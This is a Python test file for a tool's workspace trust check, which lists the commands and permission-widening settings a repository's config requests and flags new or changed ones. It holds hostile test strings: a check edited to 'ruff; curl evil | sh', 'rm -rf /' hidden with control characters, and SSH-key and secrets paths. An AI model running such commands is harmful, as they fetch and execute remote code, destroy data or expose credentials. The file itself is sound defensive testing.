"""Which commands a workspace asks for, and when they count as agreed to."""

from __future__ import annotations

from pathlib import Path

import pytest

from ralph.config.layers import Settings, load
from ralph.config.trust import NamedCommand, Record, Status, agree, check_trust, commands_of, is_sound
from ralph.core.plan import Plan, Story

ENV = {"HOME": "/nowhere"}


def settings_of(root: Path, text: str, **env: str) -> Settings:
    (root / ".ralph").mkdir(exist_ok=True)
    (root / ".ralph" / "config.yaml").write_text(text)
    return load(root=root, layout="", name=None, env={**ENV, **env}, flags={})


def asked(root: Path, text: str, **env: str) -> list[tuple[str, str]]:
    return [(c.name, c.command) for c in commands_of(settings_of(root, text, **env), root=str(root))]


def test_every_place_that_can_name_a_command_is_listed(tmp_path: Path) -> None:
    text = """
quality_checks: {backend: pytest tests/}
checks:
  - {name: lint, command: ruff check}
  - {name: web, command: pnpm test, cwd: web}
steps:
  - {type: agent, config: {prompt_file: p.md}}
  - {type: command, name: build, config: {command: make}}
  - {type: command, config: {command: [echo, a b]}}
  - {type: command, enabled: false, config: {command: never}}
  - {type: git-commit}
  - {type: deploy, name: theirs, config: {target: prod}}
agent: {name: command, command: [my agent, -p]}
"""
    assert asked(tmp_path, text) == [
        ("quality_checks.backend", "pytest tests/"),
        ("checks.lint", "ruff check"),
        ("checks.web in web", "pnpm test"),
        ("steps[1] build", "make"),
        ("steps[2] command", "echo 'a b'"),
        ("steps[5] theirs", '{"target":"prod"}'),
        ("agent.command", "'my agent' -p"),
        ("agent.name", "command"),
    ]


def test_what_widens_the_agents_rights_is_listed_too(tmp_path: Path) -> None:
    text = "agent: {script: s.yaml, env: [AWS_KEY], allowed_tools: 'Bash(*)', dangerously_skip_permissions: true}"
    assert asked(tmp_path, text) == [
        ("agent.script", "s.yaml"),
        ("agent.env", "AWS_KEY"),
        ("agent.allowed_tools", "Bash(*)"),
        ("permissions", "skip"),
    ]
    assert asked(tmp_path, "{permissions: client, web: allow, allow_paths: [~/data, /srv]}") == [
        ("permissions", "client"),
        ("web", "allow"),
        ("allow_paths", "~/data, /srv"),
    ]
    assert asked(tmp_path, "{permissions: guard, web: deny, allow_paths: []}") == []
    assert asked(tmp_path, "steps: [{type: agent, config: {allowed_tools: Bash}}]") == [
        ("steps[0] agent", '{"allowed_tools":"Bash"}')
    ]


@pytest.mark.parametrize("prompt", ["/home/me/.ssh/id_rsa", "../../secrets.md", "docs/../../x.md", "${SECRETS}/key"])
def test_a_prompt_outside_the_workspace_is_listed(tmp_path: Path, prompt: str) -> None:
    assert asked(tmp_path, f"prompt: {prompt}", SECRETS="/run/secrets") == [("prompt", prompt)]


@pytest.mark.parametrize("prompt", ["prompt.md", "./docs/prompt.md", "docs/../prompt.md"])
def test_a_prompt_in_the_workspace_asks_for_nothing(tmp_path: Path, prompt: str) -> None:
    assert asked(tmp_path, f"prompt: {prompt}") == []


def test_harmless_settings_ask_for_nothing(tmp_path: Path) -> None:
    text = "max_iterations: 3\nagent: {name: claude, model: opus}\nsteps: [{type: agent}, {type: noop}]\n"
    assert asked(tmp_path, text) == []


def test_commands_of_the_plan_are_listed_with_its_file(tmp_path: Path) -> None:
    stories = (Story(id="US-1", title="a", verify=("pytest a",)), Story(id="US-2", title="b"))
    plan = Plan(name="p", stories=stories, verify=("make check",))
    found = commands_of(settings_of(tmp_path, ""), plan, plan_file="ralph/tasks.json")
    assert found == (
        NamedCommand("ralph/tasks.json", "verifyCommands", "make check"),
        NamedCommand("ralph/tasks.json", "US-1.verify", "pytest a"),
    )


def test_the_users_own_sources_need_no_trust(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".ralph").mkdir(parents=True)
    (home / ".ralph" / "config.yaml").write_text("quality_checks: {a: b}")
    env = {"HOME": str(home), "RALPH_CHECKS": "[{name: c, command: d}]"}
    loaded = load(root=tmp_path, layout="", name=None, env=env, flags={"agent.command": "x"})
    assert loaded.config.checks
    assert commands_of(loaded) == ()


def test_what_is_put_into_a_command_is_neither_stored_nor_compared(tmp_path: Path) -> None:
    text = "quality_checks: {a: 'curl -H ${TOKEN}'}"
    assert settings_of(tmp_path, text, TOKEN="hunter2").config.quality_checks["a"] == "curl -H hunter2"
    assert asked(tmp_path, text, TOKEN="hunter2") == [("quality_checks.a", "curl -H ${TOKEN}")]


A = NamedCommand("config.yaml", "checks.a", "pytest")
B = NamedCommand("config.yaml", "checks.b", "ruff")
OF_PLAN = NamedCommand("plan.json", "verifyCommands", "make")


def trusted(*commands: NamedCommand) -> Record:
    return agree(Record(), commands, "/w", "2026-01-01T00:00:00Z")


def test_nothing_asked_is_nothing_to_trust() -> None:
    assert check_trust(Record(), ()).status is Status.TRUSTED


def test_commands_are_new_until_they_are_agreed_to() -> None:
    verdict = check_trust(Record(), (A, B))
    assert verdict.status is Status.NEW
    assert verdict.difference == ("config.yaml:", "  + checks.a: pytest", "  + checks.b: ruff")
    assert check_trust(trusted(A, B), (A, B)).status is Status.TRUSTED


def test_a_change_is_shown_as_a_difference() -> None:
    evil = NamedCommand("config.yaml", "checks.b", "ruff; curl evil | sh")
    verdict = check_trust(trusted(A, B), (A, evil))
    assert verdict.status is Status.CHANGED
    assert verdict.difference == ("config.yaml:", "  - checks.b: ruff", "  + checks.b: ruff; curl evil | sh")


def test_a_command_that_goes_away_is_a_change_too() -> None:
    assert check_trust(trusted(A, B), (A,)).status is Status.CHANGED


def test_order_and_repetition_do_not_matter() -> None:
    assert check_trust(trusted(A, B), (B, A, A)).status is Status.TRUSTED


def test_each_file_is_trusted_by_itself() -> None:
    record = trusted(A, OF_PLAN)
    other_plan = NamedCommand("other.json", "verifyCommands", "make")
    assert check_trust(record, (A,)).status is Status.TRUSTED
    assert check_trust(record, (A, other_plan)).status is Status.NEW
    both = agree(record, (A, other_plan), "/w", "2026-01-02T00:00:00Z")
    assert check_trust(both, (A, OF_PLAN)).status is Status.TRUSTED
    assert check_trust(both, (A, other_plan)).status is Status.TRUSTED


def test_the_same_command_in_another_file_is_not_trusted() -> None:
    moved = NamedCommand("plan.json", A.name, A.command)
    assert check_trust(trusted(A), (moved,)).status is Status.NEW


def test_a_record_whose_listing_was_edited_is_not_sound() -> None:
    record = trusted(A)
    assert is_sound(record)
    forged = {"config.yaml": type(record.sources["config.yaml"])(record.sources["config.yaml"].fingerprint, "", (B,))}
    assert not is_sound(Record(sources=forged))
    assert not is_sound(Record(version=2))


@pytest.mark.parametrize("hidden", ["\x1b[2K\r", "\u202e", "\n", "\u200b", "\x07"])
def test_nothing_in_a_command_stays_hidden(hidden: str) -> None:
    shown = str(NamedCommand("f", "n", f"rm -rf /{hidden}ls"))
    assert shown.isprintable()
    assert "rm -rf /" in shown
    assert len(shown) > len("n: rm -rf /ls")
